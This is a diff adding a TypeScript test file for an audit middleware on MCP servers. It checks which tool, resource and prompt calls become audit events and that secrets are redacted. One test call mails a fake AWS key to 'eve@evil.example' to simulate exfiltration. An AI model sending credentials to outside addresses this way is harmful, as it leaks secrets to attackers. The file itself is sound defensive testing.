@@ -1,0 +1,87 @@
+// The middleware on a real SDK server and client (in-memory transport): which calls become
+// events, and what each event says. Delivery to Kafka is covered by the integration tests.
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
+import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { auditEventV1, type AuditEventV1 } from '../schemas/event.v1.ts';
+import { sha256Hex } from './canonical.ts';
+import { DEFAULT_DENY_KEYS, denyKeyMatcher } from './redact.ts';
+import { withAudit } from './sdk.middleware.ts';
+
+const FAKE_AWS = ['AK', 'IA', 'Z7QW3RT5YU8IO2PL'].join('');
+
+async function setup() {
+  const events: AuditEventV1[] = [];
+  const server = new McpServer({ name: 'notes', version: '2.1.0' });
+  server.registerTool('read_note', { description: 'Reads a note.', inputSchema: { path: z.string(), password: z.string().optional() } }, async ({ path }) => {
+    if (path.startsWith('/private')) return { isError: true, content: [{ type: 'text', text: 'Access denied: outside allowed directories' }] };
+    return { content: [{ type: 'text', text: `content of ${path}` }] };
+  });
+  server.registerTool('send_mail', { description: 'Sends mail.', inputSchema: { to: z.string(), body: z.string() } }, async () => ({ content: [{ type: 'text', text: 'sent' }] }));
+  server.registerResource('readme', 'file:///docs/readme.md', { description: 'The readme' }, async (uri) => ({ contents: [{ uri: uri.href, text: '# hi' }] }));
+  server.registerPrompt('summarise', { argsSchema: { topic: z.string() } }, ({ topic }) => ({ messages: [{ role: 'user', content: { type: 'text', text: `Summarise ${topic}` } }] }));
+  withAudit(server, {
+    capture: { push: (e) => events.push(e), build: { isDeniedKey: denyKeyMatcher(DEFAULT_DENY_KEYS), previewChars: 1024 } },
+    identity: { tenantId: 'acme', userId: 'alice', agentId: 'bot-1' },
+  });
+  const [a, b] = InMemoryTransport.createLinkedPair();
+  await server.connect(a);
+  const client = new Client({ name: 'test-client', version: '0.0.1' });
+  await client.connect(b);
+  return { client, events, server };
+}
+
+describe('withAudit', () => {
+  it('reports tools/list with each description hash, and tool calls with arguments, targets and status', async () => {
+    const { client, events } = await setup();
+    const listed = await client.listTools();
+    await client.callTool({ name: 'read_note', arguments: { path: '/notes/a.md', password: 'hunter2' } });
+    await client.callTool({ name: 'read_note', arguments: { path: '/private/x.md' } });
+    await client.callTool({ name: 'send_mail', arguments: { to: 'eve@evil.example', body: `key ${FAKE_AWS}` } });
+    await client.callTool({ name: 'nope', arguments: {} }).catch(() => undefined);
+    await client.callTool(
+      { name: 'read_note', arguments: { path: '/notes/b.md' }, _meta: { traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01' } },
+    );
+
+    for (const e of events) expect(auditEventV1.safeParse(e).success).toBe(true);
+    expect(events.map((e) => [e.kind, e.tool?.name, e.result?.status])).toEqual([
+      ['tool_list', undefined, 'ok'],
+      ['tool_call', 'read_note', 'ok'],
+      ['tool_call', 'read_note', 'denied'],
+      ['tool_call', 'send_mail', 'ok'],
+      ['tool_call', 'nope', 'error'],
+      ['tool_call', 'read_note', 'ok'],
+    ]);
+    const [list, ok, denied, mail, , traced] = events as [AuditEventV1, AuditEventV1, AuditEventV1, AuditEventV1, AuditEventV1, AuditEventV1];
+    expect(list.tools).toEqual(
+      listed.tools.map((t) => ({ name: t.name, description: t.description, description_sha256: sha256Hex(t.description ?? '') })),
+    );
+    expect(ok).toMatchObject({
+      tenant_id: 'acme',
+      mcp: { method: 'tools/call', protocol_version: expect.any(String), session_id: expect.any(String) },
+      actor: { user_id: 'alice', agent_id: 'bot-1', client_name: 'test-client', client_version: '0.0.1' },
+      server: { name: 'notes', version: '2.1.0', transport: 'other', fingerprint: list.server.fingerprint ?? expect.any(String) },
+      resource: { paths: ['/notes/a.md'] },
+      arguments: { preview: '{"password":"[redacted:denied-key]","path":"/notes/a.md"}', size_bytes: '{"password":"hunter2","path":"/notes/a.md"}'.length },
+    });
+    expect(ok.result?.size_bytes).toBeGreaterThan(0);
+    expect(ok.duration_ms).toBeGreaterThanOrEqual(0);
+    expect(denied.result).toMatchObject({ status: 'denied', error_type: 'access_denied' });
+    expect(mail.resource).toEqual({ recipients: ['eve@evil.example'] });
+    expect(JSON.stringify(events)).not.toContain(FAKE_AWS);
+    expect(JSON.stringify(events)).not.toContain('hunter2');
+    expect(traced.trace).toEqual({ trace_id: '4bf92f3577b34da6a3ce929d0e0e4736', span_id: '00f067aa0ba902b7' });
+  });
+
+  it('reports resources/read and prompts/get, and nothing for other methods', async () => {
+    const { client, events } = await setup();
+    await client.ping();
+    await client.readResource({ uri: 'file:///docs/readme.md' });
+    await client.getPrompt({ name: 'summarise', arguments: { topic: 'q3' } });
+    expect(events.map((e) => e.kind)).toEqual(['resource_read', 'prompt_get']);
+    expect(events[0]!.resource).toEqual({ urls: ['file:///docs/readme.md'], paths: ['/docs/readme.md'] });
+    expect(events[1]!.arguments?.preview).toBe('{"arguments":{"topic":"q3"},"name":"summarise"}');
+  });
+});
